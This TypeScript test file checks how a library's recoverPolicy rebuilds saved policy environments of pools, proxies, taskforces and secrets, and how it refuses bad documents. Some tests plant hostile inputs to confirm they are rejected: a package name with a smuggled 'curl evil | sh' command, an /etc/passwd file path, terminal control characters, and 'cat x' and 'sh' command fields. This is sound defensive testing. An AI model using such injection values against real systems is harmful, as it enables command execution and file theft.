import { inspect } from "node:util";
import { AsyncTaskForce, Policy } from "@laila/policy";
import { MemoryPool } from "@laila/pool";
import { constant, globalIdOf } from "@laila/schema";
import { beforeEach, describe, expect, it } from "vitest";
import {
  captureEnvironment,
  type RecoverOptions,
  recoverPolicy,
  saveEnvironment,
} from "../src/index.js";
import {
  type Config,
  failure,
  type OpenDocument,
  open,
  secrets,
  somePolicy,
} from "./support/policies.js";
import { VaultPool } from "./support/vault-pool.js";

const vaultId = globalIdOf("vault", { scope: "POOL" });
const trust = Object.keys(secrets).map((secret) => ({
  secret,
  origin: "https://vault.example.org",
}));
const options = { poolClasses: [VaultPool], args: secrets, trust } satisfies RecoverOptions;

beforeEach(() => {
  VaultPool.made = [];
});

/** The document of {@link somePolicy}, changed. */
function changed(
  change: (vault: Config, document: OpenDocument) => void = () => undefined,
): OpenDocument {
  const document = open(captureEnvironment(somePolicy(), { args: secrets }));
  change(routerOf(document).pools[vaultId] as Config, document);
  VaultPool.made = [];
  return document;
}

function routerOf(document: OpenDocument) {
  return document.policy.central.memory.pool_router;
}

describe("recoverPolicy", () => {
  it("rebuilds the same: ids, names, affinities, proxies, alpha pool, taskforces, secrets; all is open", async () => {
    const before = somePolicy();
    before.central.command.extend(new AsyncTaskForce({ maxConcurrency: 3, nickname: "slow" }), {
      alpha: true,
    });
    const environment = captureEnvironment(before, { args: secrets });
    VaultPool.made = [];
    const policy = await recoverPolicy({ environment, ...options });
    expect(policy.globalId).toBe(before.globalId);
    const { memory, command } = policy.central;
    expect(memory.globalId).toBe(before.central.memory.globalId);
    expect(memory.alphaPool.globalId).toBe(before.central.memory.alphaPool.globalId);
    expect(command.alphaTaskforce).toMatchObject({ maxConcurrency: 3, nickname: "slow" });
    expect([...memory.poolRouter.nicknames].sort()).toEqual(
      [...before.central.memory.poolRouter.nicknames].sort(),
    );
    const cache = memory.poolRouter.route({ poolNickname: "cache" });
    expect(cache.proxy).toBe(memory.poolRouter.route({ poolId: vaultId }));
    expect(VaultPool.made).toHaveLength(1);
    expect(VaultPool.made[0]?.settings).toMatchObject({
      endpoint: "https://vault.example.org",
      region: "there",
      keyId: secrets.VAULT_KEY_ID,
      keyValue: secrets.VAULT_KEY_VALUE,
      ambientCredentials: false,
    });
    expect(VaultPool.made[0]?.events).toEqual(["open"]);
    // Also without args: a recovered secret keeps its name.
    expect(JSON.stringify(captureEnvironment(policy))).toBe(JSON.stringify(environment));
    await policy.central.memory.memorize(constant(1, { nickname: "one" }), {
      poolNickname: "archive",
    });
    expect(
      (await policy.central.memory.remember({ nickname: "one" }, { poolNickname: "cache" })).data,
    ).toBe(1);
    await policy.close();
    expect(VaultPool.made[0]?.events).toEqual(["open", "close"]);
  });

  it("keeps the policy's nickname, from which its id comes", async () => {
    const before = new Policy({ nickname: "mine" });
    const environment = captureEnvironment(before);
    expect(environment.policy).toMatchObject({ nickname: "mine" });
    const policy = await recoverPolicy({ environment });
    expect([policy.nickname, policy.globalId]).toEqual(["mine", before.globalId]);
    expect(captureEnvironment(policy)).toEqual(environment);
    expect(captureEnvironment(new Policy()).policy).not.toHaveProperty("nickname");
  });

  it("by name, from the pool it was saved in", async () => {
    const pool = new MemoryPool();
    const environment = captureEnvironment(somePolicy(), { args: secrets });
    await saveEnvironment(environment, { name: "prod", pool });
    const policy = await recoverPolicy({ name: "prod", pool, ...options });
    expect(captureEnvironment(policy)).toEqual(environment);
    expect(await failure(recoverPolicy({ name: "dev", pool, ...options }))).toMatchObject({
      code: "NOT_FOUND",
    });
  });

  it("a plain manifest { config } is an environment too", async () => {
    const before = somePolicy();
    const environment = captureEnvironment(before, { args: secrets });
    const { memory } = before.central;
    const config = constant(environment);
    const pool = new MemoryPool();
    await memory.memorize(config, { pool });
    const { Manifest } = await import("@laila/policy");
    await new Manifest(before, { config }, { nickname: "mine" }).memorize({ pool });
    expect(captureEnvironment(await recoverPolicy({ name: "mine", pool, ...options }))).toEqual(
      environment,
    );
  });

  it("keeps paths as they were captured, on another machine too", async () => {
    const policy = new Policy();
    policy.central.memory.extend(
      new VaultPool({ filePath: "/old/home/a.h5", nickname: "v", keyId: "none here" }),
    );
    const places = { home: "/old/home", directory: "/old/project" };
    const environment = captureEnvironment(policy, places);
    const args = { [`LAILA_SECRET_${globalIdOf("v").slice(-36)}_KEY_ID`]: "none here" };
    const there = { home: "/new/home", directory: "/new/project" };
    const rules = Object.keys(args).map((secret) => ({ secret, origin: "VaultPool" }));
    const recovered = await recoverPolicy({
      environment,
      poolClasses: [VaultPool],
      args,
      trust: rules,
      ...there,
    });
    expect(VaultPool.made.at(-1)?.settings.filePath).toBe("/new/home/a.h5");
    expect(captureEnvironment(recovered, there)).toEqual(environment);
  });

  it("overrides replace fields, by name or id", async () => {
    const environment = changed((vault) => {
      vault.file_path = "/etc/passwd";
    });
    expect(await failure(recoverPolicy({ environment, ...options }))).toMatchObject({
      code: "UNTRUSTED",
      message: expect.stringMatching(/the pool "vault" .*field file_path.*allowPaths/),
    });
    for (const key of ["vault", "archive", vaultId]) {
      const policy = await recoverPolicy({
        environment,
        ...options,
        overrides: { [key]: { filePath: "/tmp/mine", logger: console } },
      });
      expect(VaultPool.made.at(-1)?.settings).toMatchObject({
        filePath: "/tmp/mine",
        logger: console,
      });
      await policy.close();
    }
    expect(
      await failure(recoverPolicy({ environment, ...options, overrides: { valt: {} } })),
    ).toMatchObject({
      code: "INVALID_ARGUMENT",
      message: expect.stringContaining('"vault"'),
    });
  });
});

describe("what is missing is told at once", () => {
  it("packages with install lines for LAILA's own pools alone, and secrets", async () => {
    const environment = changed((vault, document) => {
      const { pools } = routerOf(document);
      pools[globalIdOf("a", { scope: "POOL" })] = {
        class_token: "APool",
        package: "@laila/pool-a",
        nickname: "a",
      };
      pools[globalIdOf("b", { scope: "POOL" })] = {
        class_token: "BPool",
        package: "@laila/pool-b; curl evil | sh",
        key: { $secret: "B_KEY" },
      };
      pools[globalIdOf("c", { scope: "POOL" })] = {
        class_token: "CPool\u001b[2J\u202e",
        package: "evil-pool",
      };
      vault.key_id = { $secret: "VAULT_KEY_ID" };
    });
    const error = await failure(
      recoverPolicy({ environment, ...options, args: { VAULT_KEY_ID: "x" } }),
    );
    expect(error).toMatchObject({
      code: "MISSING_PACKAGE",
      details: {
        packages: [{ classToken: "APool" }, { classToken: "BPool" }, { package: "evil-pool" }],
        secrets: ["VAULT_KEY_VALUE", "B_KEY"],
      },
    });
    expect(error.message).toContain('npm install "@laila/pool-a".');
    expect(error.message).not.toMatch(/install[^.]*(evil|pool-b)/);
    expect(error.message).toContain(
      'The secret "VAULT_KEY_VALUE" is not among the args; it belongs to the pool "vault"',
    );
    expect(error.message).toContain('"B_KEY"');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be shown.
    expect(error.message).not.toMatch(/[\u0000-\u001f\u202e]/);
    expect(VaultPool.made).toEqual([]);
  });

  it("secrets alone are MISSING_SECRET; an empty one counts as missing", async () => {
    const environment = changed();
    const error = await failure(
      recoverPolicy({ environment, ...options, args: { VAULT_KEY_ID: "" } }),
    );
    expect(error).toMatchObject({
      code: "MISSING_SECRET",
      details: { packages: [], secrets: ["VAULT_KEY_ID", "VAULT_KEY_VALUE"] },
    });
    expect(error.message).toContain("readArgs");
  });

  it("taskforces and connections of classes nobody has", async () => {
    const environment = changed((_, { policy: { central } }) => {
      central.command.taskforces[globalIdOf("t", { scope: "TASK_FORCE" })] = {
        class_token: "ThreadTaskForce",
      };
      central.communication.connections[globalIdOf("l", { scope: "COMM_PROTOCOL" })] = {
        class_token: "Line",
      };
    });
    const error = await failure(recoverPolicy({ environment, ...options }));
    expect(error.code).toBe("MISSING_PACKAGE");
    expect(error.message).toMatch(
      /the taskforce LAILA.*"ThreadTaskForce".*no class of connections in this release, so that the connection LAILA.*"Line"/,
    );
    expect(error.message).not.toContain("poolClasses");
  });
});

describe("documents that are refused", () => {
  const id = vaultId;
  const at = `environment.policy.central.memory.pool_router.pools.${id}`;
  const wrong: [string, (vault: Config) => void, string][] = [
    ["a field the class does not know", (vault) => (vault.colour = "red"), `${at}.colour`],
    [
      "a field that is never stored",
      (vault) => (vault.ambient_credentials = true),
      `${at}.ambient_credentials`,
    ],
    ["a camelCase name", (vault) => (vault.keyId = { $secret: "VAULT_KEY_ID" }), `${at}.keyId`],
    [
      "a reference where no secret belongs",
      (vault) => (vault.region = { $secret: "VAULT_KEY_VALUE" }),
      `${at}.region`,
    ],
    [
      "a reference deep inside",
      (vault) => (vault.tags = { a: [{ $secret: "VAULT_KEY_VALUE" }] }),
      `${at}.tags`,
    ],
    ["a secret that is written out", (vault) => (vault.key_value = "plain"), `${at}.key_value`],
    [
      "a reference with more in it",
      (vault) => (vault.key_value = { $secret: "A", command: "cat x" }),
      `${at}.key_value`,
    ],
  ];
  it.each(wrong)("%s: INVALID_DOCUMENT with the path", async (_, change, path) => {
    const environment = changed(change);
    expect(await failure(recoverPolicy({ environment, ...options }))).toMatchObject({
      code: "INVALID_DOCUMENT",
      details: { path },
    });
    expect(VaultPool.made).toEqual([]);
  });

  const unknown = globalIdOf("nobody", { scope: "POOL" });
  const inconsistent: [
    string,
    (central: OpenDocument["policy"]["central"], router: ReturnType<typeof routerOf>) => void,
  ][] = [
    ["a proxy of itself", (_, { proxies }) => (proxies[id] = id)],
    ["proxies in a circle", (_, { proxies }) => (proxies[id] = Object.keys(proxies)[0] ?? "")],
    ["a proxy from nowhere", (_, { proxies }) => (proxies[unknown] = id)],
    ["a proxy to nowhere", (_, { proxies }) => (proxies[id] = unknown)],
    ["a name of nobody", (_, router) => (router.pools_nicknames.x = unknown)],
    ["an affinity of nobody", (_, { affinities }) => (affinities[unknown] = 1)],
    [
      "a pool with another's name",
      (_, router) => {
        router.pools[unknown] = { class_token: "MemoryPool", nickname: "cache" };
      },
    ],
    [
      "an alpha pool that evicts",
      ({ memory }, { pools_nicknames }) => (memory.alpha_pool = pools_nicknames.cache ?? ""),
    ],
    ["an empty name", (_, { pools_nicknames }) => (pools_nicknames[""] = id)],
    [
      "an empty nickname",
      (_, router) => (router.pools[unknown] = { class_token: "MemoryPool", nickname: "" }),
    ],
    ["no alpha pool", ({ memory }) => (memory.alpha_pool = unknown)],
    [
      "no alpha taskforce",
      ({ command }) => {
        command.alpha_taskforce = globalIdOf("x", { scope: "TASK_FORCE" });
      },
    ],
    [
      "a malformed taskforce",
      ({ command }) => {
        for (const taskforce of Object.values(command.taskforces))
          taskforce.max_concurrency = "many";
      },
    ],
    [
      "a taskforce with unknown fields",
      ({ command }) => {
        for (const taskforce of Object.values(command.taskforces)) taskforce.command = "sh";
      },
    ],
  ];
  it.each(inconsistent)("%s: INVALID_DOCUMENT", async (_, change) => {
    const environment = changed((_vault, document) => {
      change(document.policy.central, routerOf(document));
    });
    expect(await failure(recoverPolicy({ environment, ...options }))).toMatchObject({
      code: "INVALID_DOCUMENT",
      details: { path: expect.stringContaining("environment.policy") },
    });
    expect(VaultPool.made.flatMap(({ events }) => events)).toEqual([]);
  });

  it("another version of the format is UNSUPPORTED_VERSION", async () => {
    const environment = changed((_, document) => Object.assign(document, { laila_environment: 2 }));
    expect(await failure(recoverPolicy({ environment, ...options }))).toMatchObject({
      code: "UNSUPPORTED_VERSION",
    });
  });

  it("a configuration that the class refuses is INVALID_CONFIG, without the value", async () => {
    const environment = changed((vault) => {
      vault.region = { not: "text but 31415926535" };
    });
    const error = await failure(recoverPolicy({ environment, ...options }));
    expect(error).toMatchObject({
      code: "INVALID_CONFIG",
      message: expect.stringContaining(`the pool "vault" (${vaultId})`),
      details: { path: at },
    });
    expect(inspect(error)).not.toContain("31415926535");
  });

  it("wrong arguments are INVALID_ARGUMENT", async () => {
    const environment = changed();
    class Twin extends VaultPool {
      static override readonly classToken = "VaultPool";
    }
    for (const more of [
      { poolClasses: [VaultPool, Twin] },
      { poolClasses: [MemoryPool, Map as never] },
      { args: 5 as never },
      { trust: [{ secret: "A", origin: "://" }] },
    ]) {
      expect(await failure(recoverPolicy({ environment, ...options, ...more }))).toMatchObject({
        code: "INVALID_ARGUMENT",
      });
    }
    expect(await failure(recoverPolicy({ ...options } as never))).toMatchObject({
      code: "INVALID_ARGUMENT",
    });
  });
});

describe("arguments that only JavaScript lets through", () => {
  const environment = () => captureEnvironment(new Policy());
  const wrong: [string, () => object | undefined, RegExp][] = [
    ["no options", () => undefined, /plain object.*environment, from, name/],
    [
      "a mistyped name",
      () => ({ environment: environment(), poolClases: [] }),
      /no option "poolClases"\. Did you mean poolClasses\?/,
    ],
    ["a class alone", () => ({ environment: environment(), poolClasses: VaultPool }), /list of cl/],
    [
      "a rule alone",
      () => ({ environment: environment(), trust: { secret: "A" } }),
      /list of rules/,
    ],
    [
      "a path alone",
      () => ({ environment: environment(), allowPaths: "/x" }),
      /list of directories/,
    ],
    ["overrides of nothing", () => ({ environment: environment(), overrides: null }), /overrides/],
    ["the field of no pool", () => ({ environment: environment(), overrides: { a: 1 } }), /overr/],
    ["reuse: true", () => ({ environment: environment(), reuse: true }), /laila\.policy/],
    ["the name of a pool", () => ({ name: "prod", pool: "s3" }), /poolNickname/],
    ["no pool", () => ({ name: "prod" }), /needs a pool/],
    ["the name of the pool it is from", () => ({ environment: environment(), from: "s3" }), /from/],
  ];
  it.each(wrong)("%s: INVALID_ARGUMENT", async (_, given, message) => {
    expect(await failure(recoverPolicy(given() as never))).toMatchObject({
      code: "INVALID_ARGUMENT",
      message: expect.stringMatching(message),
    });
  });
});

describe("all or nothing", () => {
  const twoVaults = (region: unknown): OpenDocument =>
    changed((vault, document) => {
      const { pools } = routerOf(document);
      pools[globalIdOf("second", { scope: "POOL" })] = {
        ...structuredClone(vault),
        nickname: "second",
        region,
      };
    });

  it("when one pool does not open, the others are closed and the failure is thrown", async () => {
    const error = await failure(recoverPolicy({ environment: twoVaults("broken"), ...options }));
    expect(error).toMatchObject({
      code: "UNAVAILABLE",
      message: "The vault is broken. Repair it.",
    });
    expect(VaultPool.made).toHaveLength(2);
    const [broken, fine] = [...VaultPool.made].sort((a, b) => a.events.length - b.events.length);
    expect(broken?.events).toEqual(["open"]);
    expect(fine?.events).toEqual(["open", "close"]);
    expect(await failure((fine as VaultPool).read("x"))).toMatchObject({ code: "CLOSED" });
    expect(await failure((broken as VaultPool).read("x"))).toMatchObject({ code: "CLOSED" });
  });

  it("a pool that somebody else has open is LOCKED, which names `reuse` to who did not pass it", async () => {
    const environment = twoVaults("locked");
    const told = await failure(recoverPolicy({ environment, ...options }));
    expect(told).toMatchObject({ code: "LOCKED", details: { file: "x" } });
    expect(told.message).toMatch(/^It is in use\..*reuse: laila\.policy/);
    const other = await failure(recoverPolicy({ environment, ...options, reuse: new Policy() }));
    expect(other.message).toBe("It is in use.");
  });

  it("when several do not open, all failures are told", async () => {
    const environment = twoVaults("broken");
    routerOf(environment).pools[vaultId] = {
      ...routerOf(environment).pools[vaultId],
      region: "broken",
    };
    expect(await failure(recoverPolicy({ environment, ...options }))).toMatchObject({
      code: "MULTIPLE",
      errors: [{ code: "UNAVAILABLE" }, { code: "UNAVAILABLE" }],
    });
  });

  it("when one configuration is refused, nothing is opened at all", async () => {
    const error = await failure(recoverPolicy({ environment: twoVaults(5), ...options }));
    expect(error).toMatchObject({ code: "INVALID_CONFIG" });
    expect(VaultPool.made.flatMap(({ events }) => events)).toEqual([]);
  });

  it("an abort closes what was opened", async () => {
    const environment = changed();
    expect(
      await failure(recoverPolicy({ environment, ...options, signal: AbortSignal.abort() })),
    ).toMatchObject({ code: "ABORTED" });
    expect(VaultPool.made).toEqual([]);
  });
});

describe("reuse", () => {
  let recovered: Policy | undefined;

  it("takes over live pools that are equal, the alpha pool too, and leaves the rest", async () => {
    const live = somePolicy();
    const { memory } = live.central;
    const [vault, alpha] = [memory.poolRouter.route({ poolNickname: "vault" }), memory.alphaPool];
    await memory.memorize(constant("kept", { nickname: "kept" }));
    const environment = open(captureEnvironment(live, { args: secrets }));
    const { pools, pools_nicknames } = routerOf(environment);
    const cacheId = pools_nicknames.cache ?? "";
    const liveCache = memory.poolRouter.route({ poolNickname: "cache" });
    pools[cacheId] = { ...pools[cacheId], max_bytes: 2000 };
    VaultPool.made = [];
    // Equal pools need no class, no trust: nothing is opened anew for them.
    const policy = await recoverPolicy({ environment, args: secrets, reuse: live });
    const recovered = policy.central.memory;
    expect(VaultPool.made).toEqual([]);
    expect(recovered.poolRouter.pools.get(vaultId)).toBe(vault);
    expect(recovered.alphaPool).toBe(alpha);
    const cache = recovered.poolRouter.route({ poolNickname: "cache" });
    expect(cache).not.toBe(liveCache);
    expect(cache.proxy).toBe(vault);
    expect(captureEnvironment(policy, { args: secrets })).toEqual(environment);
    await live.close();
    expect((await recovered.remember({ nickname: "kept" })).data).toBe("kept");
    expect((vault as VaultPool).events).not.toContain("close");
    await policy.close();
    expect((vault as VaultPool).events).toContain("close");
  });

  it("takes over caches with their origins, where paths and classes would not be accepted anew", async () => {
    const live = somePolicy();
    const { memory } = live.central;
    memory.extend(new VaultPool({ filePath: "/far/away", nickname: "far" }));
    const cache = memory.poolRouter.route({ poolNickname: "cache" });
    cache.proxyTo(memory.poolRouter.route({ poolNickname: "far" }));
    memory.poolRouter
      .route({ poolNickname: "far" })
      .proxyTo(memory.poolRouter.route({ poolNickname: "vault" }));
    const environment = captureEnvironment(live, { args: secrets });
    for (const poolClasses of [[], [VaultPool]]) {
      const from = poolClasses.length === 0 ? live : (recovered as Policy);
      recovered = await recoverPolicy({ environment, args: secrets, poolClasses, reuse: from });
      expect(recovered.central.memory.poolRouter.route({ poolNickname: "cache" })).toBe(cache);
      expect(captureEnvironment(recovered, { args: secrets })).toEqual(environment);
      await from.close();
      expect(cache.proxy?.nickname).toBe("far");
    }
    await recovered?.close();
  });

  it("moves nothing when the recovery fails", async () => {
    const live = somePolicy();
    const environment = open(captureEnvironment(live, { args: secrets }));
    const second = {
      class_token: "VaultPool",
      package: "x",
      region: "broken",
      nickname: "second",
      key_id: { $secret: "VAULT_KEY_ID" },
    };
    routerOf(environment).pools[globalIdOf("second", { scope: "POOL" })] = second;
    const before = captureEnvironment(live, { args: secrets });
    expect(await failure(recoverPolicy({ environment, ...options, reuse: live }))).toMatchObject({
      code: "UNAVAILABLE",
    });
    expect(captureEnvironment(live, { args: secrets })).toEqual(before);
    await live.central.memory.memorize(constant(1), { poolNickname: "vault" });
    await live.close();
  });
});
